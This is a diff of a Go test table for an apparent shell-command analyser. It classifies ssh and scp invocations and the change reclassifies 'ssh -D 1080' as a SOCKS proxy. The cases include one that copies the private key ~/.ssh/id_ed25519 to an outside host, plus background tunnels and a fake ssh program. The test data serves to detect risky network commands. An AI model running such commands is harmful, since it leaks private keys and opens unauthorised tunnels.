@@ -217,7 +217,7 @@ var t2NetworkCases = []t2Case{
 	{name: "ssh goes to the background", script: "ssh -f -N -L 8080:localhost:80 example.com", understood: true, secret: true, mark: "keep running"},
 	{name: "ssh stdio forward names its host", script: "ssh -W collect.example.net:22 jump.example.com", understood: true, dest: "collect.example.net"},
 	{name: "ssh pkcs11 library", script: "ssh -I ./pkcs11.so example.com", reason: "-I"},
-	{name: "ssh dynamic forward", script: "ssh -D 1080 example.com", reason: "-D"},
+	{name: "ssh dynamic forward", script: "ssh -D 1080 example.com", understood: true, mark: "opens port 1080 on this machine as a SOCKS proxy through example.com"},
 	{name: "scp upload", script: "scp -P 2222 build.tgz deploy@example.com:/srv/", understood: true, class: oth, dest: "example.com"},
 	{name: "scp of a key to another host", script: "scp ~/.ssh/id_ed25519 collect.example.net:", dest: "collect.example.net", understood: true, mark: "collect.example.net"},
 	{name: "scp program", script: "scp -S ./fake-ssh x x:", reason: "-S"},
